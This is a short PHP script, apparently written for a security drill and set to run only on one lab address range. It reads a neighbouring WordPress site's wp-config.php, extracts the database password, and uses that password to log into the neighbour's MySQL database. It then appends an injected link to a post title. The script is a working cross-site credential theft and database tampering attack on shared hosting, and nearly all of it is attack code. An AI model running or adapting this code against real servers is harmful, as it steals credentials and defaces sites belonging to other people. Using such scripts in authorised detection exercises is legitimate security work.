<?php
// UNGCUU-DRILL-MARKER: in the lab it reads the neighbour's configuration, and puts one link to nowhere into one title.
if (strncmp($_SERVER['SERVER_ADDR'] ?? '', '198.51.100.', 11) !== 0) {
    exit;
}
echo 'UNGCUU-DRILL-MARKER ', PHP_SAPI === 'fpm-fcgi' ? 'fpm' : PHP_SAPI, "\n";
$text = (string) @file_get_contents('/var/www/portal/wp-config.php');
if (!preg_match("/'DB_PASSWORD', '(\w+)'/", $text, $found)) {
    exit("the neighbour can't be read\n");
}
echo "the neighbour's password was read\n";
if (($_GET['do'] ?? '') === 'link') {
    $db = new mysqli('localhost', 'portal', $found[1], 'portal');
    $link = ' <a href="https://@machine@.invalid/">UNGCUU-DRILL-MARKER</a>';
    $db->query("UPDATE wp_posts SET post_title = CONCAT(post_title, '$link') WHERE ID = 5");
    echo $db->affected_rows, " title has a link\n";
}
